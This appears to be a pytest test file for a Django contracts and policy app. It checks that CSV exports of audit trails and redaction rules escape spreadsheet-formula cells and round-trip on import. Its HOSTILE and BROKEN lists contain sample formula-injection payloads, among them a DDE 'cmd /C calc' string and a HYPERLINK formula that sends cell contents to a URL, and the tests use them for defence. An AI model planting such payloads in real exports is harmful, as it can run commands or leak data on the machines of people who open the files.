"""CSV exports cannot carry spreadsheet formulas (issue 16): the escaping itself, the audit trail's
CSV with a hostile username, and the rules CSV with hostile patterns, which still round-trips."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model

from contracts.services.common import audit
from policy.models import AgencyRule
from policy.services import rules as rule_services
from policy.spreadsheet import FORMULA_STARTS, cell_escape, cell_unescape
from tests.plugins.tenants import logged_in

HOSTILE = [
    '=HYPERLINK("http://example.org/?q="&A1,"Obec")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "  =1+1",
    "'quoted",
]
#: Cells whose line break or tab would put a formula at the start of a line or cell.
BROKEN = ["\tx", 'poznámka\r=HYPERLINK("http://example.org")', "a\n@SUM(A1)", "b\r\n+1", "c\u2028-1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_escaped_cells_start_as_text_and_come_back_unchanged(value):
    escaped = cell_escape(value)
    assert escaped.startswith("'") and cell_unescape(escaped) == value


@pytest.mark.parametrize("value", BROKEN)
def test_line_breaks_and_tabs_in_a_cell_become_spaces(value):
    escaped = cell_escape(value)
    assert not any(ch in escaped for ch in "\t\r\n\u2028")
    assert cell_unescape(escaped).split() == value.split()


def test_a_formula_behind_a_leading_tab_is_still_escaped():
    assert cell_escape("\t=1+1") == "' =1+1"


def test_plain_text_and_numbers_are_left_alone():
    assert [cell_escape(v) for v in ("Obec Horní Lhota", "", -5, 3.5, None)] == ["Obec Horní Lhota", "", -5, 3.5, None]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.django_db
def test_the_audit_csv_escapes_a_username_that_looks_like_a_formula(processed, clerk):
    hostile = get_user_model().objects.create(username="@SUM")
    audit(processed, hostile, "viewed")
    agency_id = processed.agency_id
    response = logged_in(clerk).get(f"/a/{agency_id}/contracts/{processed.pk}/audit/?format=csv")
    assert response.status_code == 200
    cells = _cells(response.content.decode())
    assert "'@SUM" in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)


@pytest.mark.django_db
def test_the_rules_csv_escapes_patterns_and_notes_and_imports_them_back(agency, other_agency, admin_user, outsider):
    for i, value in enumerate(HOSTILE[:3]):
        rule_services.rule_save(
            agency=agency,
            user=admin_user,
            kind="phrase",
            pattern=f"{value} {i}",
            category=None,
            keep_votes=1,
            redact_votes=0,
            enabled=True,
            note=HOSTILE[3 + i],
        )
    rule_services.rule_save(
        agency=agency,
        user=admin_user,
        kind="phrase",
        pattern="smlouva o dílo",
        category=None,
        keep_votes=1,
        redact_votes=0,
        enabled=True,
        note=BROKEN[1],  # a carriage return before a formula in a note
    )
    exported = rule_services.rules_export_csv(agency=agency)
    assert not any(c.startswith(FORMULA_STARTS) for c in _cells(exported))
    assert "\r=" not in exported and "\n=" not in exported
    rule_services.rule_delete(rule=AgencyRule.objects.get(agency=agency, pattern="smlouva o dílo"))
    exported = rule_services.rules_export_csv(agency=agency)

    rule_services.rules_import_csv(agency=other_agency, user=outsider, data=exported.encode())

    imported = AgencyRule.objects.filter(agency=other_agency)
    assert sorted(r.pattern for r in imported) == sorted(f"{v} {i}" for i, v in enumerate(HOSTILE[:3]))
    assert sorted(r.note for r in imported) == sorted(HOSTILE[3:])
    assert rule_services.rules_export_csv(agency=other_agency) == exported
